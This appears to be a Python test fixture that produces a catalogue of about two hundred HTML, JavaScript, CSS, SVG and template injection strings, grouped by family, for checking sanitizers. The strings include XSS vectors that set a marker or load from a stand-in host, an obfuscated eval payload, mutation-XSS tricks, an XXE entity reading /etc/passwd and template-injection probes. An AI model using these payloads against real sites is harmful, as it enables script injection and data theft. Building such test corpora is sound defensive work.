"""Two hundred texts that would like to be more than text, by family. What runs sets `window.pwned` or asks for evil.invalid."""

from __future__ import annotations

from collections.abc import Iterator
from html import escape

RUN = "window.pwned=1"
AWAY = "https://evil.invalid/x"


def _scripts() -> Iterator[str]:
    script = f"<script>{RUN}</script>"
    yield script
    yield f"<SCRIPT>{RUN}</SCRIPT>"
    yield f"<script >{RUN}</script\t>"
    yield f"<script/x>{RUN}</script/x>"
    yield f"<script\n>{RUN}</script\n>"
    yield f"<scr<script>ipt>{RUN}</scr</script>ipt>"
    yield f"<script>{RUN}"
    yield f"<script type=module>{RUN}</script>"
    yield f"<script type='text/javascript'>{RUN};//"
    yield f"<script src={AWAY}></script>"
    yield f"<script src='data:text/javascript,{RUN}'></script>"
    yield f"<script async defer src=//{AWAY[8:]}></script>"
    yield f"<script nonce=''>{RUN}</script>"
    yield f"<script type=importmap>{{}}</script>{script}"
    for closing in (
        "title",
        "style",
        "textarea",
        "template",
        "noscript",
        "xmp",
        "iframe",
        "script",
        "select",
        "svg",
        "main",
    ):
        yield f"</{closing}>{script}"
    for closing in ('">', "'>", "-->", "]]>", "*/", "`>", "\n\n", "%>", "?>"):
        yield f"{closing}{script}"


def _handlers() -> Iterator[str]:
    for tag, event in (
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("marquee", "onstart"),
        ("iframe", "onload"),
        ("object data=x", "onerror"),
        ("a tabindex=1 autofocus", "onfocus"),
        ("link rel=stylesheet href=x", "onerror"),
        ("style", "onload"),
        ("p", "onmouseover"),
        ("button", "onclick"),
        ("dialog open", "onclose"),
        ("div contenteditable autofocus", "onfocus"),
        ("x", "onpointerenter"),
    ):
        yield f"<{tag} {event}={RUN}>"
    yield f"<img src=x onerror={RUN}//"
    yield f"<img/src=x/onerror={RUN}>"
    yield f"<img src=x onerror\n=\n'{RUN}'>"
    yield f"<ImG sRc=x OnErRoR={RUN}>"
    yield f"<svg/onload={RUN}"
    yield f"<video><source onerror={RUN}></video>"
    yield "<img src=x oNeRrOr=eval(atob('d2luZG93LnB3bmVkPTE='))>"


def _attributes() -> Iterator[str]:
    for quote in ('"', "'", "`", "&quot;", "&#39;", '\\"', '""', "”"):
        yield f"{quote} onmouseover={quote}{RUN}"
        yield f"{quote} autofocus tabindex=0 onfocus={RUN} x={quote}"
    yield f'" style="background:url({AWAY})'
    yield f'"/><img src={AWAY}>'
    yield f" onfocus={RUN} autofocus"
    yield f'"onload="{RUN}'


def _addresses() -> Iterator[str]:
    yield f'<a href="javascript:{RUN}">x</a>'
    yield f"javascript:{RUN}"
    yield f"JaVaScRiPt:{RUN}//"
    yield f"java\tscript:{RUN}"
    yield f"\x01javascript:{RUN}"
    yield f"data:text/html,<script>{RUN}</script>"
    yield "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg=="
    yield f"vbscript:{RUN}"
    yield f"//{AWAY[8:]}"
    yield f"../../../../{AWAY}"
    for markup in (
        "<img src={0}>",
        "<img srcset='{0} 1x'>",
        "<iframe src={0}></iframe>",
        "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
        "<iframe src='javascript:parent.pwned=1'></iframe>",
        "<embed src={0}>",
        "<object data={0}></object>",
        "<video poster={0} src={0}></video>",
        "<input type=image src={0}>",
        "<link rel=stylesheet href={0}>",
        "<link rel=prefetch href={0}>",
        "<link rel=icon href={0}>",
        "<base href={0}>",
        "<meta http-equiv=refresh content='0;url={0}'>",
        "<meta http-equiv=Content-Security-Policy content=''>",
        "<form action={0}><button autofocus>x</button></form>",
        "<table background={0}><tr><td>x</table>",
    ):
        yield markup.format(AWAY)


def _styles() -> Iterator[str]:
    yield f"<style>@import url({AWAY});</style>"
    yield f"<style>body{{background:url({AWAY})}}</style>"
    yield f"<style>@font-face{{font-family:x;src:url({AWAY})}}*{{font-family:x}}</style>"
    yield "<style>*{display:none}</style>"
    yield f"<div style=background:url({AWAY})>x</div>"
    yield f"<div style='width:expression({RUN})'>x</div>"
    yield f"}}</style><script>{RUN}</script>"
    yield f";background:url({AWAY})"
    yield f"*/}}body{{background:url({AWAY})}}/*"
    yield f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={RUN}>"


def _drawings() -> Iterator[str]:
    yield f"<svg><script>{RUN}</script></svg>"
    yield f"<svg><script href={AWAY} /></svg>"
    yield f"<svg><script xlink:href='data:text/javascript,{RUN}' /></svg>"
    yield f"<svg><animate onbegin={RUN} attributeName=x dur=1s>"
    yield f"<svg><set onbegin={RUN} attributeName=x>"
    yield f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>"
    yield f"<svg><image href={AWAY} /></svg>"
    yield f"<svg><use href='{AWAY}#x' /></svg>"
    yield f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>"
    yield f"<svg><style>*{{background:url({AWAY})}}</style></svg>"
    yield f"<svg><title><img src=x onerror={RUN}></title></svg>"
    yield f"<math><mtext><script>{RUN}</script></mtext></math>"
    yield f"<math href='javascript:{RUN}'>x</math>"
    yield f"<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>"


def _entities() -> Iterator[str]:
    script = f"<script>{RUN}</script>"
    yield escape(script)
    yield escape(escape(script))
    yield "".join(f"&#{ord(char)};" for char in script)
    yield "".join(f"&#x{ord(char):x};" for char in script)
    yield "".join(f"&#{ord(char):07d}" for char in script)
    yield script.replace("<", "&lt").replace(">", "&gt")
    yield script.replace("<", "\\u003c").replace(">", "\\u003e")
    yield script.replace("<", "\\x3c").replace(">", "\\x3e")
    yield script.replace("<", "%3C").replace(">", "%3E")
    yield script.replace("<", "＜").replace(">", "＞")
    yield script.replace("<", "﹤").replace(">", "﹥")
    yield script.replace("<", "‹").replace(">", "›")
    yield f"&NewLine;&Tab;javascript&colon;{RUN}"
    yield "&nosuchentity; &amp &;"


def _characters() -> Iterator[str]:
    script = f"<script>{RUN}</script>"
    yield "\u202e" + script + "\u202c"
    yield "<\u200bscript>" + RUN + "</script>"
    yield "<scr\u00adipt>" + RUN + "</script>"
    yield "\ufeff" + script
    yield f"'\u2028{RUN}\u2029'"
    yield f"\u2066{script}\u2069"
    yield "<ſcript>" + RUN + "</ſcript>"
    yield "<script>" + RUN.replace("w", "ｗ", 1) + "</script>"
    yield f"𝒐𝒏𝒆𝒓𝒓𝒐𝒓={RUN}"
    yield f"<img\u3000src=x\u3000onerror={RUN}>"
    yield f"<img\u00a0src=x\u00a0onerror={RUN}>"
    yield f"<img\x0csrc=x\x0conerror={RUN}>"


def _templates() -> Iterator[str]:
    yield "{{ 7 * 7 }}"
    yield "{{ self.__init__.__globals__ }}"
    yield "{% for x in range(9) %}x{% endfor %}"
    yield "{# gone #}"
    yield "{{ data|safe }}"
    yield "{{constructor.constructor('" + RUN + "')()}}"
    yield "${" + RUN + "}"
    yield "<%= 7 * 7 %>"
    yield "{count} {document} {0} {}"
    yield "%(name)s %s %d"
    yield "$& $1 $` $'"


def _programs() -> Iterator[str]:
    yield "</script>"
    yield "</SCRIPT >"
    yield "<!--<script>"
    yield "<!--"
    yield "-->"
    yield f'";{RUN};//'
    yield f"';{RUN};//"
    yield f"\\';{RUN};//"
    yield f"`;{RUN};`"
    yield f"]}};{RUN};//"
    yield f"*/{RUN}/*"
    yield "\\"
    yield "__proto__"
    yield "constructor"
    yield "toString"
    yield "hasOwnProperty"


def _broken() -> Iterator[str]:
    yield "<"
    yield "<<<>>>"
    yield "</"
    yield "<a"
    yield "<a href='"
    yield '<a title="'
    yield "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;"
    yield "<![CDATA[<b>]]>"
    yield "<?xml version='1.0'?><?php echo 1 ?>"
    yield "<plaintext>"
    yield "</body></html>"
    yield "<template><b>"
    yield "<textarea>"
    yield "<title>"
    yield "<noscript><p title='</noscript><img src=x onerror=" + RUN + ">'>"


FAMILIES: dict[str, tuple[str, ...]] = {
    family.__name__.removeprefix("_"): tuple(family())
    for family in (
        _scripts,
        _handlers,
        _attributes,
        _addresses,
        _styles,
        _drawings,
        _entities,
        _characters,
        _templates,
        _programs,
        _broken,
    )
}
INJECTIONS: tuple[str, ...] = tuple(text for family in FAMILIES.values() for text in family)
